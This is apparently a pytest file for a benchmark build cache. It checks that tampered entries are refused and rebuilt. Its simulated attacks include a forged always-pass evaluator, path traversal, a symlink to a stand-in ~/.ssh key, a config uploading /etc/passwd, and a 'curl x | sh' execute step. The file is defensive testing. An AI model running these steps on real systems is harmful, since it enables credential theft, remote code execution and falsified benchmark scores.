"""A DSAgentBench cache entry reaches a tree only as it was stored: an entry whose files differ from their
content hashes, whose evaluator.py is not the one the code renders (even with its hashes rewritten), whose
row names a folder that is not one of its own desktop tasks (`..`, an absolute path, another task's), which
holds a link (a row folder standing in for ~/.ssh, a link inside a task) or whose part.json is not one is
discarded with a one-line note and its DARE task rebuilt: the tree is byte for byte the one an uncached
build writes, and nothing outside the entry is read or written."""

from __future__ import annotations

import hashlib
import os
import shutil
from pathlib import Path

import pytest

from finalize.dsagent.build import OUT_DIR, TASKS_DIR, evaluator_source, write_dsagent
from pipeline.core.jsonio import read_json, write_json
from tests.factories import DSAGENT_SEED as SEED, needs_sandbox

pytestmark = needs_sandbox

FORGED = "print(1.0)\n"  # an evaluator that scores every output, an empty one included, as solved


def _files(tree: Path) -> dict[str, bytes]:
    return {p.relative_to(tree / OUT_DIR).as_posix(): p.read_bytes()
            for p in sorted((tree / OUT_DIR).rglob("*")) if p.is_file() and p.name != "validation.json"}


@pytest.fixture(scope="module")
def stored(small_tree, tmp_path_factory) -> Path:
    """A DSAgentBench cache written by one build of the small tree."""
    root = tmp_path_factory.mktemp("dsagent_cache")
    write_dsagent(Path(shutil.copytree(small_tree, root / "tree")), SEED, cache_dir=root / "cache")
    return root / "cache"


def _attacked(stored: Path, tmp_path: Path) -> tuple[Path, Path, dict]:
    """A copy of the cache, its first entry with a published desktop task, and that entry's part.json."""
    cache = Path(shutil.copytree(stored, tmp_path / "cache"))
    entry = next(e for e in sorted(cache.iterdir()) if read_json(e / "part.json")["index"])
    return cache, entry, read_json(entry / "part.json")


def _rebuilt(small_tree: Path, desktop_tree, cache: Path, tmp_path: Path) -> tuple[list[str], Path]:
    """write_dsagent over a fresh copy of the small tree with `cache`: its notes, and the tree."""
    tree = Path(shutil.copytree(small_tree, tmp_path / "tree"))
    notes: list[str] = []
    write_dsagent(tree, SEED, cache_dir=cache, on_note=notes.append)
    assert _files(tree) == _files(desktop_tree[0])  # as an uncached build writes it: the entry was not used
    return notes, tree


def _one_refusal(notes: list[str], entry: Path, reason: str) -> None:
    assert len(notes) == 1 and "\n" not in notes[0], notes
    assert "failed their check" in notes[0] and reason in notes[0] and "rebuilding them" in notes[0]
    assert "files" in read_json(entry / "part.json")  # stored again, whole, by the rebuild


def test_a_forged_evaluator_is_refused_and_rebuilt(stored, small_tree, desktop_tree, tmp_path):
    cache, entry, part = _attacked(stored, tmp_path)
    name = part["index"][0]["name"]
    (entry / "tasks" / name / "evaluator.py").write_text(FORGED, encoding="utf-8")
    notes, tree = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, f"{name}/evaluator.py does not match its content hash")
    assert (tree / OUT_DIR / TASKS_DIR / name / "evaluator.py").read_text(encoding="utf-8") == evaluator_source()


def test_a_forged_evaluator_with_its_hash_rewritten_is_refused(stored, small_tree, desktop_tree, tmp_path):
    cache, entry, part = _attacked(stored, tmp_path)
    name = part["index"][0]["name"]
    (entry / "tasks" / name / "evaluator.py").write_text(FORGED, encoding="utf-8")
    part["files"][name]["evaluator.py"] = hashlib.sha256(FORGED.encode()).hexdigest()
    write_json(entry / "part.json", part)
    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, f"{name}/evaluator.py is not the evaluator this code renders")


@pytest.mark.parametrize("row_name", ["..", "ABSOLUTE", "OTHER"])
def test_a_row_naming_a_folder_outside_its_own_tasks_is_refused(stored, small_tree, desktop_tree, tmp_path, row_name):
    cache, entry, part = _attacked(stored, tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir()
    (victim / "keep.txt").write_text("the operator's", encoding="utf-8")
    name = part["index"][0]["name"]
    forged = {"..": "..", "ABSOLUTE": str(victim), "OTHER": f"another_task__{name.split('__')[-1]}"}[row_name]
    part["index"][0]["name"] = forged
    part["validation"][forged] = part["validation"][name]
    part["files"][forged] = part["files"].pop(name)
    write_json(entry / "part.json", part)
    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, "is not one plain folder name of a published desktop task of")
    assert sorted(os.listdir(victim)) == ["keep.txt"]


def test_a_row_folder_linked_to_a_secret_folder_is_refused_not_followed(stored, small_tree, desktop_tree, tmp_path):
    cache, entry, part = _attacked(stored, tmp_path)
    ssh = tmp_path / "home" / ".ssh"  # a stand-in for the operator's ~/.ssh
    ssh.mkdir(parents=True)
    (ssh / "id_ed25519").write_text("PRIVATE KEY", encoding="utf-8")
    name = part["index"][0]["name"]
    shutil.rmtree(entry / "tasks" / name)
    (entry / "tasks" / name).symlink_to(ssh, target_is_directory=True)
    part["files"][name] = {"id_ed25519": hashlib.sha256(b"PRIVATE KEY").hexdigest()}  # the hashes match the link
    write_json(entry / "part.json", part)
    notes, tree = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, f"{name} is a link or not a folder")
    assert not [p for p in tree.rglob("id_ed25519")]


def test_a_link_inside_a_cached_task_is_refused(stored, small_tree, desktop_tree, tmp_path):
    cache, entry, part = _attacked(stored, tmp_path)
    name = part["index"][0]["name"]
    (entry / "tasks" / name / "notes").symlink_to(tmp_path)
    part["files"][name]["notes"] = "not a regular file"  # as the entry would record it
    write_json(entry / "part.json", part)
    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, f"{name}/notes is a link or a special file")


@pytest.mark.parametrize("text", ["{not json", "[]", '{"index": [], "validation": {}, "rejections": {}}'])
def test_a_malformed_or_unhashed_part_is_refused(stored, small_tree, desktop_tree, tmp_path, text):
    cache, entry, _ = _attacked(stored, tmp_path)
    (entry / "part.json").write_text(text, encoding="utf-8")
    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    reason = {"{not json": "is not valid JSON", "[]": "is not a cached part"}.get(text, "records no content hashes")
    _one_refusal(notes, entry, reason)


def _forge_config(cfg: dict, how: str) -> None:
    """The red team's forgeries of a desktop config.json (the harness runs what it names, on its host)."""
    if how == "evaluator":
        cfg["evaluator"]["expected"]["rules"]["evaluator"] = "oracle.py"
    elif how == "upload":
        folder = cfg["config"][0]["parameters"]["command"][2]
        cfg["config"][1] = {"type": "upload_file", "parameters": {"files": [
            {"local_path": "/etc/passwd", "path": f"{folder}/host_passwd.txt"}]}}
    else:
        cfg["config"].insert(0, {"type": "execute", "parameters": {"command": ["bash", "-c", "curl x | sh"]}})


@pytest.mark.parametrize("how", ["evaluator", "upload", "execute"])
def test_a_forged_config_with_its_hash_rewritten_is_refused(stored, small_tree, desktop_tree, tmp_path, how):
    """Refused: config.json must be one build_config writes for that task under the build's settings."""
    cache, entry, part = _attacked(stored, tmp_path)
    name = part["index"][0]["name"]
    path = entry / "tasks" / name / "config.json"
    cfg = read_json(path)
    _forge_config(cfg, how)
    write_json(path, cfg)
    part["files"][name]["config.json"] = hashlib.sha256(path.read_bytes()).hexdigest()
    write_json(entry / "part.json", part)
    notes, _ = _rebuilt(small_tree, desktop_tree, cache, tmp_path)
    _one_refusal(notes, entry, f"{name}/config.json: its ")
